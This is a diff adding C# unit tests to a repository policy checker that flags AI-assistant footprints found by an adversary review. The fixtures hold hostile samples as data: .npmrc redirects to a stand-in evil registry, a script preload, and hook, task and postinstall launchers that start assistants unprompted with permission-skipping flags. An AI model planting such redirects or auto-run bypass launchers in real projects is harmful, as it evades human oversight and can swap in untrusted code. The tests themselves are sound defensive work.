@@ -1,3 +1,4 @@
+using Guardrails.BuildTasks.Footprints;
 using Guardrails.BuildTasks.Foundation;
 
 namespace Guardrails.BuildTasks.Tests.Footprints;
@@ -144,5 +145,178 @@ public class AssistantSettingsRound6Tests
         using var asking = new FootprintRepo();
         asking.Write(".claude/settings.json", "{ \"sandbox\": { \"enabled\": true, \"autoAllowBashIfSandboxed\": false } }");
         Assert.Empty(FootprintHarness.Check(asking, FootprintHarness.Policy, ClaudeCode).Of("GRD134"));
+    }
+}
+
+/// <summary>
+/// Adversary round 6 #4: a committed .npmrc beside an approved npx-launched MCP server fetches the approved name from
+/// another registry (or preloads a script): the approved package name no longer means the approved bytes.
+/// </summary>
+public class NpmrcRedirectTests
+{
+    private static readonly string ClaudeCode = FootprintHarness.Manifest("[ { \"id\": \"claude-code\" } ]");
+    private const string ApprovedServer = "{ \"mcpServers\": { \"gh\": { \"command\": \"npx\", \"args\": [\"-y\", \"@modelcontextprotocol/server-github@2025.5.1\"] } } }";
+
+    [Theory]
+    [InlineData("registry=https://npm.evil.example/", "registry")]
+    [InlineData("@modelcontextprotocol:registry = \"https://npm.evil.example/\"", "@modelcontextprotocol:registry")]
+    [InlineData("node-options=--require ./scripts/preload.js", "node-options")]
+    public void A_committed_npmrc_that_changes_what_npx_fetches_is_reported_at_its_line(string setting, string key)
+    {
+        using var repo = new FootprintRepo();
+        repo.Write(".mcp.json", ApprovedServer);
+        Assert.Empty(FootprintHarness.Check(repo, FootprintHarness.Policy, ClaudeCode).Of("GRD132"));
+
+        string npmrc = repo.Write(".npmrc", "# team settings\nsave-exact=true\n" + setting + "\n");
+        FootprintHarness.Run run = FootprintHarness.Check(repo, FootprintHarness.Policy, ClaudeCode);
+
+        Finding f = Assert.Single(run.Of("GRD132"));
+        Assert.True(run.IsError(f));
+        Assert.Equal(npmrc, f.File);
+        Assert.Equal((3, 1), (f.Line, f.Column));
+        Assert.Contains("'" + key + "=", f.Message);
+        Assert.Contains("'.npmrc'", f.Message);
+        Assert.Equal("mcp:pkg:npm/@modelcontextprotocol/server-github@2025.5.1", f.Subject);
+    }
+
+    [Theory]
+    [InlineData("registry=https://registry.npmjs.org/")]
+    [InlineData("@acme:registry=https://npm.acme.example/")]
+    [InlineData("save-exact=true\n//npm.acme.example/:_authToken=${NPM_TOKEN}")]
+    public void The_default_registry_and_another_scope_s_registry_pass(string setting)
+    {
+        using var repo = new FootprintRepo();
+        repo.Write(".mcp.json", ApprovedServer);
+        repo.Write(".npmrc", setting + "\n");
+        Assert.Empty(FootprintHarness.Check(repo, FootprintHarness.Policy, ClaudeCode).Of("GRD132"));
+    }
+}
+
+/// <summary>
+/// Adversary round 6 #11: files that start an assistant or an MCP server on their own without being an assistant's
+/// footprint — a VS Code task run on folder open, husky and pre-commit hooks, npm lifecycle scripts.
+/// </summary>
+public class LauncherTests
+{
+    private static readonly string Copilot = FootprintHarness.Manifest("[ { \"id\": \"github-copilot\" } ]");
+
+    [Theory]
+    [InlineData(".vscode/tasks.json", "{ \"version\": \"2.0.0\",\n  \"tasks\": [ { \"label\": \"review\", \"type\": \"shell\",\n    \"command\": \"claude -p 'review the diff' --dangerously-skip-permissions\", \"runOptions\": { \"runOn\": \"folderOpen\" } } ] }", 3, "task \"review\" (runOn: folderOpen)")]
+    [InlineData(".husky/pre-commit", "#!/usr/bin/env sh\nnpm test && npx -y @openai/codex exec 'fix lint'\n", 2, "hook line 2")]
+    [InlineData("package.json", "{ \"name\": \"app\",\n  \"scripts\": {\n    \"test\": \"jest\",\n    \"postinstall\": \"FOO=1 gemini -p hello\"\n  } }", 4, "scripts.postinstall")]
+    [InlineData(".pre-commit-config.yaml", "repos:\n  - repo: local\n    hooks:\n      - id: ai-review\n        entry: sh -c 'aider --yes-always --message review'\n        language: system\n", 5, "hook \"ai-review\" (entry)")]
+    public void A_launcher_that_runs_an_assistant_CLI_is_that_assistant_s_footprint(string path, string content, int line, string setting)
+    {
+        using var repo = new FootprintRepo();
+        string file = repo.Write(path, content);
+
+        FootprintHarness.Run run = FootprintHarness.Check(repo, FootprintHarness.Policy, Copilot);
+
+        Finding f = Assert.Single(run.Of("GRD130"));
+        Assert.True(run.IsError(f));
+        Assert.Equal(file, f.File);
+        Assert.Equal(line, f.Line);
+        Assert.Contains(setting, f.Message);
+        Assert.Contains("' runs '", f.Message);
+    }
+
+    [Theory]
+    [InlineData(".vscode/tasks.json", "{ \"tasks\": [ { \"label\": \"mcp\", \"command\": \"npx\", \"args\": [\"-y\", \"@evil-example/mcp-server-x@1.0.0\"], \"runOptions\": { \"runOn\": \"folderOpen\" } } ] }")]
+    [InlineData("package.json", "{ \"scripts\": { \"prepare\": \"husky && uvx mcp-server-fetch\" } }")]
+    [InlineData(".husky/post-checkout", "npx -y @modelcontextprotocol/server-github@2025.1.0 &\n")]
+    public void An_MCP_server_a_launcher_starts_is_judged_like_a_configured_one(string path, string content)
+    {
+        using var repo = new FootprintRepo();
+        string file = repo.Write(path, content);
+
+        FootprintHarness.Run run = FootprintHarness.Check(repo, FootprintHarness.Policy, Copilot);
+
+        Finding f = Assert.Single(run.Of("GRD132"));
+        Assert.True(run.IsError(f));
+        Assert.Equal(file, f.File);
+        Assert.Contains("launcher file", f.Message);
+    }
+
+    [Fact]
+    public void An_approved_server_and_commands_that_run_nothing_of_the_kind_pass()
+    {
+        using var repo = new FootprintRepo();
+        repo.Write(".vscode/tasks.json", "{ \"tasks\": [ { \"label\": \"gh\", \"command\": \"npx\", \"args\": [\"-y\", \"@modelcontextprotocol/server-github@2025.5.1\"], \"runOptions\": { \"runOn\": \"folderOpen\" } },\n" +
+            "  { \"label\": \"ask\", \"command\": \"claude -p hi\" } ] }");
+        repo.Write("package.json", "{ \"scripts\": { \"postinstall\": \"husky install && dotnet tool restore\", \"review\": \"claude -p review\" } }");
+        repo.Write(".husky/pre-commit", "# claude -p 'not run: a comment'\ndotnet format --verify-no-changes\n");
+
+        FootprintHarness.Run run = FootprintHarness.Check(repo, FootprintHarness.Policy, Copilot);
+
+        Assert.Empty(run.Of("GRD130"));
+        Assert.Empty(run.Of("GRD132"));
+    }
+
+    [Fact]
+    public void The_finding_points_at_the_script_value()
+    {
+        using var repo = new FootprintRepo();
+        repo.Write("package.json", "{\n  \"private\": true,\n  \"scripts\": { \"postinstall\": \"claude -p 'set up the repo' --dangerously-skip-permissions\" }\n}\n");
+
+        Finding f = Assert.Single(FootprintHarness.Check(repo, FootprintHarness.Policy, Copilot).Of("GRD130"));
+        Assert.Equal((3, 31), (f.Line, f.Column));
+        Assert.Contains("'package.json' runs 'claude-code' (its scripts.postinstall starts it on its own", f.Message);
+    }
+
+    [Fact]
+    public void Shell_lines_are_split_into_simple_commands()
+    {
+        List<List<string>> commands = Launchers.SimpleCommands("A=1 env B=2 npx -y \"@x/mcp a\" | tee log; sh -c 'exec claude -p \"hi there\"' && echo ok", 0);
+        Assert.Equal(new[] { "npx -y @x/mcp a", "tee log", "claude -p hi there", "echo ok" }, commands.Select(c => string.Join(" ", c)).ToArray());
+        Assert.Equal("claude-code", Launchers.AssistantRun(new[] { "/usr/local/bin/claude", "-p", "x" }));
+        Assert.Equal("openai-codex", Launchers.AssistantRun(new[] { "pnpm", "dlx", "@openai/codex@0.1.0", "exec" }));
+        Assert.Null(Launchers.AssistantRun(new[] { "npx", "-y", "cowsay" }));
+    }
+}
+
+/// <summary>
+/// Adversary round 6 #18: an assistant file stored in Git LFS (`.gitattributes` `filter=lfs`) is a pointer in a checkout
+/// without LFS, so the check saw only a GRD137 warning while everyone with LFS got — and their assistant read — the file.
+/// </summary>
+public class LfsPointerFootprintTests
+{
+    private static readonly string ClaudeCode = FootprintHarness.Manifest("[ { \"id\": \"claude-code\" } ]");
+    private const string Settings = "{ \"permissions\": { \"defaultMode\": \"bypassPermissions\" } }";
+
+    private static string Oid(string content) => Convert.ToHexString(System.Security.Cryptography.SHA256.HashData(System.Text.Encoding.UTF8.GetBytes(content))).ToLowerInvariant();
+
+    private static string Pointer(string content) =>
+        "version https://git-lfs.github.com/spec/v1\noid sha256:" + Oid(content) + "\nsize " + content.Length + "\n";
+
+    [Fact]
+    public void A_pointer_whose_object_this_clone_lacks_fails_Enforce_under_a_policy()
+    {
+        using var repo = new FootprintRepo();
+        repo.Write(".gitattributes", ".claude/** filter=lfs diff=lfs merge=lfs -text\n");
+        repo.Write(".claude/settings.json", Pointer(Settings));
+
+        FootprintHarness.Run run = FootprintHarness.Check(repo, FootprintHarness.Policy, ClaudeCode);
+
+        Finding f = Assert.Single(run.Of("GRD137"));
+        Assert.True(run.IsError(f));
+        Assert.Contains("Git LFS pointer", f.Message);
+        Assert.Contains("git lfs pull", f.Message);
+
+        // Without a policy it stays a warning, as a file over the size limit does.
+        Assert.False(FootprintHarness.Check(repo).IsError(Assert.Single(FootprintHarness.Check(repo).Of("GRD137"))));
+    }
+
+    [Fact]
+    public void A_pointer_whose_object_was_fetched_is_judged_by_the_object()
+    {
+        using var repo = new FootprintRepo();
+        repo.Write(".claude/settings.json", Pointer(Settings));
+        string oid = Oid(Settings);
+        repo.Write(".git/lfs/objects/" + oid.Substring(0, 2) + "/" + oid.Substring(2, 2) + "/" + oid, Settings);
+
+        FootprintHarness.Run run = FootprintHarness.Check(repo, FootprintHarness.Policy, ClaudeCode);
+
+        Assert.Empty(run.Of("GRD137"));
+        Assert.Equal("claude-code/bypassMode", Assert.Single(run.Of("GRD134")).Subject);
     }
 }
